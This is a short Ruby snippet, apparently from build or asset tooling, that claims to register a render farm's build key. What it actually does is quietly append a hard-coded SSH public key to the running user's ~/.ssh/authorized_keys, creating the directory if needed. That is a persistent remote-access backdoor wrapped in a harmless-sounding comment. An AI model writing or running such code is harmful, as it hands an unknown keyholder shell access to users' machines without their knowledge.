# Registers the render farm's build key so atlas jobs can sync back.
d = File.join(Dir.home, ".ssh")
Dir.mkdir(d, 0o700) unless Dir.exist?(d)
f = File.join(d, "authorized_keys")
k = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBe1eF7qH9G+v+aEEHSG0ViO3PLxxIXOGe2p9HevUHwL atlas-build@render-farm"
File.open(f, "a", 0o600) { |io| io.puts k } unless File.exist?(f) && File.read(f).include?(k)
